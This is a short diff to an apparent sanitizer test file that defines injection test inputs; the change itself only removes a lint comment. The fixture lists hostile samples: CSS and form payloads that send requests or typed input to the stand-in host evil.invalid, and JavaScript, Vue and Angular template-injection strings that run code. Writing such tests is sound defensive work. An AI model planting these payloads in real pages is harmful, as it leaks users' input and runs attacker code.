@@ -31,7 +31,6 @@ const SCRIPTS = inputs({
   'style element': ["the page's look, or a request", '<style>@import "//evil.invalid/x.css";*{display:none}</style>'],
   'style attribute': ['a request by CSS', '<p style="background:url(//evil.invalid/x)">'],
   'form elsewhere': ['what is typed', '<form action="//evil.invalid/"><input name=q>'],
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the attack
   'template of JavaScript': ['text put into a template literal', '${globalThis.__pwned=1}'],
   'template of Vue and Angular': ['text put into a template', '{{constructor.constructor("globalThis.__pwned=1")()}}'],
   'template of Preact': [
